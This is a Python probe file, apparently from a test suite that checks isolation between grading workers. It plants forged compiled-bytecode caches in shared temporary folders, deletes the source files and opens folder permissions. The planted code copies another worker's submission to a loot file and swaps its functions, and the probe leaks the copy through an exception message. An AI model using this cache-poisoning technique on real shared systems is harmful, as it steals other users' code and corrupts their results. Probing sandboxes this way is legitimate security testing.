"""Leaves compiled code in the folder that another worker's fork loads its own submission from.
class: reach a neighbour
verdict: error, failed, timeout, memory, crash, blocked
success: canary
control: shared
"""

import importlib.util
import marshal
import os
import tempfile
import time

PLACES = [os.getcwd(), "/tmp/submission", tempfile.gettempdir(), os.path.dirname(tempfile.gettempdir()), "/tmp", "/dev/shm"]
EVIL = """
with open("/tmp/submission/hostile.py") as file:
    text = file.read()
with open("/tmp/loot", "w") as file:
    file.write(text)
def scale(x):
    return 0
double = scale
"""
LOOT = []
for place in PLACES[:2]:
    for name in ("hostile", "helper"):
        path = os.path.join(place, name + ".py")
        code = compile(EVIL, path, "exec")
        packed = importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little") + bytes(8) + marshal.dumps(code)
        cached = importlib.util.cache_from_source(path)
        try:
            os.makedirs(os.path.dirname(cached), exist_ok=True)
            with open(cached, "wb") as file:
                file.write(packed)
            os.chmod(os.path.dirname(cached), 0o777)
            os.chmod(place, 0o777)
            os.remove(path)
        except OSError:
            pass


def _look(seconds):
    end = time.time() + seconds
    while time.time() < end and not LOOT:
        for path in [os.path.join(place, "loot") for place in PLACES]:
            try:
                with open(path) as file:
                    LOOT.append(file.read())
            except OSError:
                pass
        time.sleep(0.002)


_look(2)


def scale(x):
    raise ValueError(LOOT[0] if LOOT else "nothing")
